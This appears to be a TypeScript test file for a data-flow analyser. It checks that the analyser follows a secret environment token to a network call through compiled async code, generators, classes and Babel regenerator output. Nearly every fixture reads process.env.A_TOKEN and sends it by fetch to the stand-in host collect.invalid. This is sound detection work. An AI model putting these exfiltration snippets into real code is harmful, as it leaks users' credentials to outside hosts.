import assert from 'node:assert/strict';
import ts from 'typescript';
import { flowsOf } from '../platform/sent.js';

/** As TypeScript writes it for engines without `async`, generators, classes and `for … of`. */
function inEs5(code: string): string {
  const { options } = ts.convertCompilerOptionsFromJson(
    { target: 'ES5', module: 'CommonJS', downlevelIteration: true },
    '.',
  );
  return ts.transpileModule(code, { compilerOptions: options }).outputText;
}

/** What Babel's `_asyncToGenerator` and `regenerator` come to: whoever runs the body is another package's. */
const BABEL = `const regenerator = require('regenerator-runtime'); function run(made) { return new Promise(function (resolve) {
  function step(r) { r.done ? resolve(r.value) : Promise.resolve(r.value).then(function (v) { step(made.next(v)); }); } step(made.next()); }); }`;

const SENT = 'secret-variable>network@collect.invalid';

const SPLIT: Readonly<Record<string, string>> = {
  'one wait after the other': inEs5(
    `(async () => { const e = await Promise.resolve(process.env.A_TOKEN); await fetch('https://collect.invalid/' + e); })();`,
  ),
  'a way that may be taken': inEs5(
    `(async () => { let e = 'x'; if (Math.random() > 0.5) { e = await Promise.resolve(process.env.A_TOKEN); } else { await 1; }
      await fetch('https://collect.invalid/' + e); })();`,
  ),
  'a loop that waits in each round': inEs5(
    `(async () => { for (const name of ['A_TOKEN', 'B_TOKEN']) { const e = await Promise.resolve(process.env[name]);
      await fetch('https://collect.invalid/' + e); } })();`,
  ),
  'what is caught': inEs5(
    `(async () => { let e; try { e = await load(); } catch { e = await Promise.resolve(process.env.A_TOKEN); } finally { await 1; }
      await fetch('https://collect.invalid/' + e); })();`,
  ),
  'what is returned': inEs5(
    `const get = async () => process.env.A_TOKEN; const more = async () => { await 1; return (await get()) + '.'; };
      more().then((e) => fetch('https://collect.invalid/' + e));`,
  ),
  'what is yielded': inEs5(
    `function* all() { yield 'x'; yield* [process.env.A_TOKEN]; } for (const one of all()) fetch('https://collect.invalid/' + one);`,
  ),
  'the object whose method it is': inEs5(
    `class Sender { constructor(e) { this.e = e; } async go() { await 1; await fetch('https://collect.invalid/' + this.e); } }
      new Sender(process.env.A_TOKEN).go();`,
  ),
  'the words of Babel': `${BABEL} run(regenerator.wrap(function (s) { while (1) switch (s.prev = s.next) {
      case 0: s.next = 2; return Promise.resolve(process.env.A_TOKEN);
      case 2: e = s.sent; if (e) { s.next = 5; break; } return s.abrupt('return', 'x');
      case 5: return s.abrupt('return', e); case 6: case 'end': return s.stop(); } }, null, this)).then(function (e) {
      fetch('https://collect.invalid/' + e); }); var e;`,
  'the short words of Babel': `${BABEL} var e; run(regenerator().w(function (s) { for (;;) switch (s.p = s.n) {
      case 0: s.p = 0, s.n = 1; return load();
      case 1: e = s.v; s.n = 3; break;
      case 2: s.p = 2; e = process.env.A_TOKEN; s.v;
      case 3: s.n = 4; return fetch('https://collect.invalid/' + e);
      case 4: return s.a(2); } }, null, null, [[0, 2]]));`,
};

describe('a function that a compiler has split up', () => {
  for (const [what, code] of Object.entries(SPLIT)) {
    it(`is followed through ${what}`, () => {
      const flows = flowsOf(code);
      assert.ok(flows.includes(SENT), flows.join('; '));
    });

    it(`is followed through ${what} where only users of the package call it`, () => {
      const flows = flowsOf(`exports.run = function () { ${code} };`);
      assert.ok(flows.includes(SENT), flows.join('; '));
    });
  }

  it('goes no way that is known not to be taken', () => {
    const never = inEs5(
      `(async () => { let e = 'x'; if (1 > 2) { e = await Promise.resolve(process.env.A_TOKEN); } await fetch('https://collect.invalid/' + e); })();`,
    );
    assert.deepEqual(flowsOf(never), []);
  });

  it('is no function that chooses by a number what it gives', () => {
    const chosen = `const e = [{ kind: 0 }, { kind: 1 }].map(function (one) { switch (one.kind) { case 0: return process.env.A_TOKEN; default: return one; } });
      fetch('https://collect.invalid/' + e[0]);`;
    assert.deepEqual(flowsOf(chosen), [SENT]);
  });
});
